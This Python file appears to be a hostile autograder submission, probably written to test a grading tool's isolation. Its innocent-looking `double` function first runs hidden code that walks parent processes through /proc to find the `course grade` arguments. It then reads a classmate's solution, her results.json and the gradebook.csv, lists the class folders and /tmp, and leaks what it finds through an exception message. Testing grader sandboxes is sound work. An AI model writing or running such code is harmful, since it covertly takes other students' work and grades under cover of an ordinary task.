"""Reads a classmate's submission and results: finds the class from `course grade`'s command line."""
import os


def _grade_args():
    """The command line of the `course grade` process above this one, found through /proc."""
    pid = os.getppid()
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = [a.decode() for a in fh.read().split(b"\0") if a]
            with open(f"/proc/{pid}/status") as fh:
                ppid = int(next(line.split()[1] for line in fh if line.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            return []
        if "grade" in args and "--out" in args:
            return args
        pid = ppid
    return []


def _attack():
    """Every classmate file that could be read, and how."""
    args = _grade_args()
    if not args:
        return ["the class's folders could not even be found"], []
    subs, out = args[args.index("grade") + 1], args[args.index("--out") + 1]
    read = []
    for path in (os.path.join(subs, "alice", "exercises", "01_ex_pass", "ex_pass.py"),
                 os.path.join(out, "alice", "results.json"), os.path.join(out, "gradebook.csv")):
        try:
            with open(path) as fh:
                read.append(f"{path}: {fh.read()[:200]}")
        except OSError:
            pass
    for folder in (subs, out, "/tmp"):
        try:
            read.append(f"listed {folder}: {sorted(os.listdir(folder))[:20]}")
        except OSError:
            pass
    return [], read


def double(x):
    problems, leaked = _attack()
    if leaked:
        raise RuntimeError("LEAKED " + " | ".join(leaked))
    return 2 * x
